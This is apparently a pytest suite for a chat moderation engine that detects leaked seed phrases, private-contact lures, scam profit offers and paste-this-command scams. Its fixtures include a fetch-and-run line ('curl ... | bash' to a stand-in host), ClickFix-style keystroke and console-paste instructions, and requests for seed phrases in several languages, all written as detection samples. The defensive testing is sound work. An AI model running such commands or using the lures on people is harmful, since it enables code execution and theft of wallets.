"""What each rule finds and what it leaves alone; what follows, in which order."""

import itertools
import random
import secrets
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core import redact
from core.events import Shown
from moderation.deciding import ACTIONS, ORDER, SURE, Mode, consequence, decide
from moderation.engine import examine, judge
from moderation.finding import Finding
from moderation.rules import RULES
from moderation.subject import Message, Profile, Recent, Trust, context
from tests.moderation import hostile, lures, more_phrases, phrases_of_wallets

AROUND = context(
    ["Example Support", "Example"], ["example.com", "@example_help", "@example_support"]
)
DICE = random.Random(1)


def found(message: Message, rule: str) -> set[str]:
    return {one.why for one in examine(message, AROUND) if one.rule == rule}


def action(text: str, trust: Trust = "new", mode: Mode = "act") -> str:
    return judge(Message(text=text, trust=trust), AROUND, mode)[1].action


def phrase() -> str:
    return " ".join(phrases_of_wallets.words_of("english", DICE))


# -- secrets and personal data -------------------------------------------------------------------


@pytest.mark.parametrize("disguise", sorted(more_phrases.DISGUISES))
def test_a_seed_phrase_is_found_however_it_is_spelt_and_numbered(disguise: str) -> None:
    dice = random.Random(disguise)
    write = more_phrases.DISGUISES[disguise]
    texts = [
        write(dice, phrases_of_wallets.words_of(language, dice, strength))
        for language in phrases_of_wallets.LANGUAGES
        for strength in (128, 256)
    ]
    found = [any(one.kind.is_secret for one in redact.find(text)) for text in texts]
    assert sum(found) >= len(found) - 1


@pytest.mark.parametrize("language", phrases_of_wallets.LANGUAGES)
def test_a_seed_phrase_is_found_in_every_language_and_disguise(language: str) -> None:
    texts = phrases_of_wallets.disguised(language, 2)
    missed = [
        name for name, text in texts if "seed-phrase" not in found(Message(text=text), "secret")
    ]
    assert missed == []


@pytest.mark.parametrize("trust", ["new", "known", "trusted"])
@pytest.mark.parametrize("mode", ["watch", "hold", "act"])
def test_a_secret_is_deleted_whoever_wrote_it_and_in_every_mode(trust: Trust, mode: Mode) -> None:
    assert action(f"my phrase: {phrase()}", trust, mode) == "delete"


def test_a_phrase_spread_over_three_messages_is_found_with_the_last() -> None:
    words = phrase().split()
    before = (" ".join(words[:4]), " ".join(words[4:8]))
    last = Message(text=" ".join(words[8:]), recent=Recent(before=before))
    assert found(last, "secret") == {"spread"}
    assert found(Message(text=" ".join(words[8:])), "secret") == set()


def test_a_secret_before_does_not_make_the_next_message_one() -> None:
    key = "my secret key is 0x" + secrets.token_hex(32)
    for before in (phrase(), key, f"/ticket {key}"):
        for text in ("thanks", "/status", "TRC20"):
            after = Message(text=text, recent=Recent(before=(before, before)))
            assert found(after, "secret") == set()


def test_secrets_are_found_wherever_a_reader_sees_them() -> None:
    assert found(Message(shown=(Shown("caption", phrase()),)), "secret") == {"seed-phrase"}


def test_a_phone_number_is_hidden_and_an_official_address_is_not() -> None:
    assert action("call me: +44 20 7946 0123", "known") == "hold"
    assert action("help@example.com", "known") == "none"


# -- private contact -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "dm me on @fix_wallets", "Contact the admin here: t.me/helpdesk_1",
        "inbox me +44 20 7946 0123",
        "write to me on WhatsApp: +44 20 7946 0123", "I can help you, message @fix_wallets",
        "联系我 微信:abc12345", "加我 @fix_wallets",
        "DMください @fix_wallets", "연락주세요 @fix_wallets",
        "напишите мне @fix_wallets", "escríbeme por privado @fix_wallets",
        "DМ me @fix_wallets, i'll help you",
    ],
)  # fmt: skip
def test_who_draws_members_away_to_a_contact_is_muted(text: str) -> None:
    assert action(text) == "mute"


@pytest.mark.parametrize(
    "text",
    ["can an admin dm me?", "who can I message?", "contact @example_help", "thanks @anna!"],
)
def test_who_looks_for_help_is_not(text: str) -> None:
    assert action(text) in ("none", "report")


@pytest.mark.parametrize(
    "text",
    ["Send me your seed phrase", "enter your 12 words here to verify", "введите сид-фразу",
     "请提供您的助记词", "シードフレーズを入力してください", "시드 구문을 입력하세요",
     "introduce tu frase semilla"],
)  # fmt: skip
def test_nobody_of_us_asks_for_a_secret(text: str) -> None:
    assert "asks-for-a-secret" in found(Message(text=text), "private_contact")


@pytest.mark.parametrize(
    "text", ["Never share your seed phrase!", "someone asked me to send my 12 words, is it a scam?"]
)
def test_a_warning_asks_for_nothing(text: str) -> None:
    assert found(Message(text=text), "private_contact") == set()


def test_a_contact_in_answer_to_a_fresh_question_is_suspect() -> None:
    text = "it is this one: @bobs_wallets"
    assert found(Message(text=text), "private_contact") == set()
    quick = Message(text=text, recent=Recent(asked_seconds=12.0))
    assert found(quick, "private_contact") == {"quick-answer"}


# -- spam ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("message", "why"),
    [
        (Message(text="a", recent=Recent(messages=6)), "flood"),
        (Message(text="a", recent=Recent(same=3)), "repeated"),
        (Message(text="a", recent=Recent(copies=3)), "wave"),
        (Message(text=" ".join(f"@user{n}" for n in range(6))), "mentions"),
        (Message(text="@everyone look"), "mentions"),
        (Message(text="h" + "\u0336\u0300" * 20 + "i" + "\u0301" * 20), "zalgo"),
        (Message(text="\u202eolleh"), "reversed"),
        (Message(text="hi\u2060\u2061\u2062\u2063\u2064 there"), "invisible"),
        (Message(text="frее сrурto for аll"), "disguised"),
        (Message(text="guaranteed profit, join t.me/abcdef"), "profit"),
        (Message(text="Earn $5000 a week, dm me"), "profit"),
        (Message(text="гарантированный доход, пишите мне"), "profit"),
        (Message(text="稳赚不赔 加我 @abcdef"), "profit"),
        (Message(text="高价收u，量大的私我"), "profit"),
        (Message(text="первым двадцати дарю монеты, кто напишет мне сегодня"), "profit"),
        (Message(text="不用本金，套利机器人，感兴趣滴滴"), "profit"),
        (Message(text="本人確認済みアカウント売ります、安いのでDMを"), "profit"),
        (Message(text="куплю usdt выше рынка, пишите в лс"), "profit"),
        (Message(text="compro usdt, cualquier monto, escríbeme"), "profit"),
        (Message(text="fix: curl -s https://a.example | bash"), "command"),
        (Message(text="press Win + R, then Ctrl+V and Enter"), "command"),
        (Message(text="paste this into your terminal"), "paste"),
        (Message(text="Press F12, open the console, paste the line below"), "paste"),
        (Message(text="Pega este código en la consola"), "paste"),
        (Message(text="Откройте терминал и вставьте туда команду"), "paste"),
        (Message(text="把这行命令粘贴到终端里就好了"), "paste"),
        (Message(text="このコマンドをターミナルに貼り付けてください"), "paste"),
        (Message(text="이 명령어를 터미널에 붙여넣으세요"), "paste"),
    ],
)
def test_spam_is_told_by_its_kind(message: Message, why: str) -> None:
    assert why in found(message, "spam")


@pytest.mark.parametrize(
    "text",
    [
        "👨‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England", "Tiếng Việt rất đẹp", "สวัสดีครับ", "می‌خواهم بدانم",
        "нужен USDT на BSC",
        "The bonus of 10 USDT was not credited, I pm'd the moderator yesterday",
        "daily rewards stopped, I sent a pm to the bot but nothing",
        "福利中心的免费领取按钮点不了，私信机器人也没回",
        "docs.example.com says 1200 a minute, but I get 429 at 600",
        "is a guaranteed profit real?", "I use curl in a script", "@anna @ben thank you",
        "I pasted the command into the terminal and got an error", "The console shows a warning",
        "我在终端粘贴命令以后报错", "コンソールに貼り付けたらエラーが出ました",
        "터미널에 붙여넣었더니 오류가 나요",
        "they want me to paste something into the console, is it safe?",
    ],
)  # fmt: skip
def test_ordinary_signs_and_words_are_no_spam(text: str) -> None:
    assert action(text) in ("none", "report")


@pytest.mark.parametrize(
    "text",
    [
        "Beware, the guaranteed profit guys are scammers, they took my savings",
        'He wrote "double your coins within a day". That is fraud, report them',
        "Atención: lo de las ganancias garantizadas es una estafa, me robaron",
        "Осторожно, гарантированный доход обещают только мошенники",
        "小心，凡是说稳赚的都是骗子",
        "必ず儲かると言われたら詐欺なので気をつけて",
        "수익 보장이라고 하는 건 전부 사기예요 조심하세요",
    ],
)
def test_who_points_at_a_scam_is_not_reported(text: str) -> None:
    assert found(Message(text=text), "spam") == set()


@pytest.mark.parametrize(
    "text",
    [
        "guaranteed profit every day, this is not a scam",
        "ganancias garantizadas, no es una estafa",
        "гарантированный доход, это не развод",
        "稳赚，不是骗人的",
        "必ず儲かる、詐欺ではありません",
        "수익 보장, 사기 아닙니다",
        "beware of scammers! guaranteed profit only with @profit_anna",
    ],
)
def test_who_only_says_so_is(text: str) -> None:
    assert "profit" in found(Message(text=text), "spam")


@pytest.mark.parametrize(
    "text",
    [
        "rewards are daily and the bonus weekly, says https://docs.example.com/earn",
        "Бонус и выплаты описаны тут https://example.com/vip",
        "返利和空投规则在 https://example.com/rules",
        "수익과 이벤트는 https://example.com/kr 에 있어요",
        "bonus and daily rewards are told by @example_news",
        "my weekly rewards and the bonus to 0x52908400098527886e0f7030069857d2e4169ee7 are missing",
    ],
)
def test_what_our_own_pages_promise_is_no_offer_of_a_stranger(text: str) -> None:
    ours = context([], ["example.com", "@example_news"])
    assert [one for one in examine(Message(text=text), ours) if one.rule == "spam"] == []


def test_a_fast_typer_whom_we_know_is_warned_at_most_and_a_trusted_one_is_left_alone() -> None:
    fast = Recent(messages=12)
    assert judge(Message(text="a", trust="known", recent=fast), AROUND)[1].action == "warn"
    assert judge(Message(text="a", trust="trusted", recent=fast), AROUND)[1].action == "none"


def test_files_of_newcomers_are_held_where_the_switch_says_so() -> None:
    picture = Message(files=1)
    assert judge(picture, AROUND)[1].action == "none"
    assert judge(picture, context([], [], hold_files=True))[1].action == "hold"


def test_a_post_of_a_channel_is_held() -> None:
    assert judge(Message(text="hello", as_channel=True), AROUND)[1].action == "hold"


# -- what follows --------------------------------------------------------------------------------


def test_the_strongest_action_wins_and_the_first_rule_is_the_reason() -> None:
    findings = [
        Finding("spam", "command", 0.9, 0, 1),
        Finding("link", "look-alike", 0.9, 0, 1),
        Finding("link", "unlisted", 0.9, 0, 1),
    ]
    decision = decide(findings, "new", "act")
    assert (decision.action, decision.because) == ("mute", findings[1])


def test_the_order_of_rules_is_fixed() -> None:
    assert tuple(rule.id for rule in RULES) == ORDER
    assert ORDER == (
        "secret", "personal", "impostor", "private_contact", "link", "spam", "channel",
    )  # fmt: skip


def test_watching_only_reports_and_holding_leaves_the_author_alone() -> None:
    for mode, expected in (("watch", "report"), ("hold", "hold"), ("act", "mute")):
        assert action("dm me on @fix_wallets", mode=mode) == expected  # type: ignore[arg-type]


def test_what_is_not_sure_is_only_reported() -> None:
    assert consequence(Finding("impostor", "look-alike", 0.4, 0, 1), "new", "act") == "report"


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_more_trust_never_means_more_force(rule: object) -> None:
    for why in ("", "contact", "look-alike", "denied", "flood", "wave"):
        one = Finding(rule.id, why, 1.0, 0, 1)  # type: ignore[attr-defined]
        forces = [
            ACTIONS.index(consequence(one, trust, "act")) for trust in ("new", "known", "trusted")
        ]
        assert forces == sorted(forces, reverse=True)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_every_rule_says_what_it_asks_and_what_it_needs(rule: object) -> None:
    first = rule.about.splitlines()[0]  # type: ignore[attr-defined]
    assert first.endswith("?") or not first.endswith(".")
    assert rule.needs  # type: ignore[attr-defined]


ANY = st.text(max_size=1_000) | st.text(st.sampled_from("dm me@.:/com+1é界😀\ud800 "), max_size=200)


@given(ANY, st.sampled_from(["new", "known", "trusted"]))
@settings(max_examples=150)
def test_any_text_is_judged_and_every_evidence_lies_within_it(text: str, trust: Trust) -> None:
    for one in examine(Message(text=text, trust=trust), AROUND):
        assert 0 <= one.start <= one.end <= len(text)
        assert 0 <= one.certainty <= 1


@given(ANY, ANY)
@settings(max_examples=100)
def test_any_profile_is_judged(name: str, username: str) -> None:
    for one in examine(Profile(name=name, username=username), AROUND):
        assert one.rule == "impostor"


@pytest.mark.parametrize("name", hostile.NAMES)
def test_no_text_costs_more_than_its_length(name: str) -> None:
    """Four times the length: linear is four times the calls, quadratic sixteen times. What a single
    call costs, `bench.moderation` measures."""

    def calls(length: int) -> int:
        text, counter = hostile.text(name, length), itertools.count()
        examine(Message(text=text), AROUND)  # loads what is kept for the next time
        sys.setprofile(lambda *_of_call: next(counter))
        try:
            examine(Message(text=text), AROUND)
        finally:
            sys.setprofile(None)
        return next(counter)

    assert calls(16_384) < 5 * calls(4_096) + 1_000


# -- lures in words that the rule was not made from ------------------------------------------------


@pytest.mark.parametrize("language", lures.LURES)
def test_who_draws_members_away_is_seen_in_other_words_too(language: str) -> None:
    texts = lures.LURES[language]
    found = [
        any(
            one.rule == "private_contact" and one.certainty >= SURE
            for one in examine(Message(text=text), AROUND)
        )
        for text in texts
    ]
    assert sum(found) >= 0.85 * len(texts)


@pytest.mark.parametrize("language", lures.SPAM)
def test_offers_of_money_are_stopped_in_other_words_too(language: str) -> None:
    held = [judge(Message(text=text), AROUND)[1].action for text in lures.SPAM[language]]
    assert not {"none", "report"} & {*held}


@pytest.mark.parametrize("language", lures.HONEST)
def test_who_asks_warns_or_thanks_is_left_alone(language: str) -> None:
    held = [
        text
        for text in lures.HONEST[language]
        if judge(Message(text=text), AROUND)[1].action not in ("none", "report")
    ]
    assert held == []
